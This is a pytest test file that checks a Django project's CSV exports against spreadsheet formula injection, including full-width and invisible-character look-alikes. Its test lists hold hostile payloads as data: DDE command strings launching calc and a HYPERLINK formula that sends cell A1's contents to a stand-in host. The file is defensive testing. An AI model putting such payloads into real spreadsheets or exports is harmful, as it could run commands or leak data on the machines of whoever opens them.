"""CSV formula injection (SECURITY.md row 17; docs/protocol.md "Files" (CSV text cells)).

Text cells that a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR first) are written
with a leading ``'`` by every CSV the project writes (votes, schedules, leaderboards), imports
remove it, and numbers stay numbers. "First" also counts look-alikes (SECURITY.md row 25, issue 32):
full-width signs, and the sign behind leading whitespace, a zero-width space or a BOM.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from annotation import csv_cells
from annotation.models import Vote
from annotation.services.votes_csv import votes_export_csv, votes_import_csv
from ranking.objective_csv import objective_parse_csv
from ranking.rendering import leaderboard_csv
from tests.annotation.factories import EXAMPLE_ROWS, HEADER, make_study, write_votes_csv

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
]


_LEADING_INVISIBLE = " \n\u00a0\u3000\u200b\u200c\u200d\u200e\u2060\ufeff"
_NUMBER = r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?"


def _is_safe(cell: str) -> bool:
    """As written to the file: quoted, or its first visible character (NFKC) starts no formula."""
    if cell.startswith("'"):
        return True
    body = unicodedata.normalize("NFKC", cell).lstrip(_LEADING_INVISIBLE + "'")
    return not body.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(_NUMBER, body) is not None


LOOK_ALIKES = [
    '\uff1dHYPERLINK("http://x")',  # full-width equals
    "\uff0bcmd|' /C calc'!A0",  # full-width plus
    "\uff0d2+3+cmd|' /C calc'!A0",  # full-width hyphen-minus
    "\uff20SUM(1+1)",  # full-width commercial at
    " =1+1",  # a leading space
    "   \t=1+1",  # spaces, then a tab
    "\n=1+1",  # a leading newline
    "\r\n=1+1",
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\ufeff\u200b \uff1d1",  # all at once
    "\u00a0=1",  # no-break space
    "\u3000=1",  # ideographic space
    "\u2060=1",  # word joiner
    "\u200e=1",  # left-to-right mark
    "\ufe66cmd",  # small equals sign
    "\u207c1",  # superscript equals
    " '=1",  # a quote after a space is no text marker
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_quoted_and_read_back_unchanged(text: str) -> None:
    written = csv_cells.neutralize_cell(text)
    assert written.startswith("'") and written[1:] == text
    assert csv_cells.restore_cell(written) == text


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_a_look_alike_formula_start_is_quoted_and_read_back_unchanged(text: str) -> None:
    written = csv_cells.neutralize_cell(text)
    assert written == "'" + text
    assert csv_cells.restore_cell(written) == text
    assert not _is_safe(text) and _is_safe(written)
    buffer = io.StringIO()
    csv_cells.writer(buffer).writerow([text, -2])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + text, "-2"]
    assert next(csv_cells.reader(io.StringIO(buffer.getvalue()))) == [text, "-2"]


@pytest.mark.parametrize(
    "value",
    [
        -2,
        -0.5,
        3,
        1.25,
        "-2",
        "-0.25",
        "+1e-3",
        "plain",
        "",
        "'plain",
        "a=b",
        " plain",
        "\ufeffname",
        "\uff41",
        "\uff0d\uff12",
    ],
)
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert csv_cells.neutralize_cell(value) == value
    if isinstance(value, str):
        assert csv_cells.restore_cell(value) == value


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r1.eEax ")), max_size=8))
def test_write_then_read_is_the_identity_and_never_starts_a_formula(text: str) -> None:
    buffer = io.StringIO()
    csv_cells.writer(buffer).writerow([text, -2])
    ((cell, number),) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert _is_safe(cell) and number == "-2"
    assert next(csv_cells.reader(io.StringIO(buffer.getvalue()))) == [text, "-2"]


_LOOK_ALIKE_ALPHABET = [
    *"'=+-@\t\r\n 1.eEax",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\u200b",
    "\ufeff",
    "\u00a0",
]


@given(st.text(alphabet=st.sampled_from(_LOOK_ALIKE_ALPHABET), max_size=8))
def test_look_alikes_write_then_read_is_the_identity_and_never_starts_a_formula(text: str) -> None:
    buffer = io.StringIO()
    csv_cells.writer(buffer).writerow([text, -2, -0.25])
    ((cell, number, fraction),) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert _is_safe(cell) and (number, fraction) == ("-2", "-0.25")
    assert next(csv_cells.reader(io.StringIO(buffer.getvalue()))) == [text, "-2", "-0.25"]


@given(st.text())
def test_any_text_round_trips_and_is_quoted_at_most_once(text: str) -> None:
    written = csv_cells.neutralize_cell(text)
    assert written in (text, "'" + text)
    assert csv_cells.restore_cell(written) == text
    assert _is_safe(written)


@pytest.mark.django_db
def test_votes_export_neutralizes_rationales_and_rater_ids_and_import_restores_them(tmp_path: Path) -> None:
    study = make_study()
    rows = [dict(row) for row in EXAMPLE_ROWS]
    for row, text in zip(rows, HOSTILE, strict=False):
        row["rationale"] = text
    for row in rows[:3]:
        row["rater"] = "@r01"  # one rater's votes, its hidden repeat included
    votes_import_csv(study=study, path=write_votes_csv(tmp_path / "in.csv", rows, HEADER))
    assert set(
        Vote.objects.filter(trial__assignment__block__study=study).values_list("rationale", flat=True)
    ) >= set(HOSTILE[: len(rows)])

    first = tmp_path / "first.csv"
    votes_export_csv(study=study, path=first)
    with first.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert all(_is_safe(cell) for cell in cells), [c for c in cells if not _is_safe(c)]
    assert "'@r01" in cells and "'" + HOSTILE[0] in cells
    assert any(
        cell.lstrip("-").isdigit() and cell.startswith("-") for cell in cells
    )  # axis scores stay numbers

    copy = make_study("copy")
    votes_import_csv(study=copy, path=first)
    stored = sorted(
        Vote.objects.filter(trial__assignment__block__study=copy).values_list(
            "trial__assignment__rater__external_id", "rationale"
        )
    )
    original = sorted(
        Vote.objects.filter(trial__assignment__block__study=study).values_list(
            "trial__assignment__rater__external_id", "rationale"
        )
    )
    assert stored == original
    second = tmp_path / "second.csv"
    votes_export_csv(study=copy, path=second)
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8")


@pytest.mark.django_db
def test_schedule_csv_neutralizes_rater_ids(tmp_path: Path) -> None:
    study = make_study()
    rows = [dict(row) for row in EXAMPLE_ROWS]
    for row in rows[:3]:
        row["rater"] = "=evil()"
    votes_import_csv(study=study, path=write_votes_csv(tmp_path / "in.csv", rows, HEADER))
    out = tmp_path / "schedule.csv"
    call_command("export_schedule", study.slug, str(out))
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'=evil()" in cells and all(_is_safe(cell) for cell in cells)


def test_leaderboard_csv_neutralizes_names_and_keeps_negative_scores() -> None:
    report = {
        "systems": [
            {
                "rank": 1,
                "system": "@sys",
                "name": '=HYPERLINK("http://x")',
                "score": -0.5,
                "ci95": [-1.0, 0.25],
                "rank_ci95": [1, 2],
                "soft_preference": 0.4,
                "appearances": 3,
                "rank1_share": 0.5,
            }
        ]
    }
    lines = list(csv.reader(io.StringIO(leaderboard_csv(report))))
    assert lines[1][:5] == ["1", "'@sys", '\'=HYPERLINK("http://x")', "-0.5", "-1.0"]


def test_objective_csv_reader_restores_quoted_system_ids() -> None:
    scores = objective_parse_csv("system,score\n'@sys,-1.5\n", source="o.csv", systems={"@sys"})
    assert scores == {"@sys": -1.5}
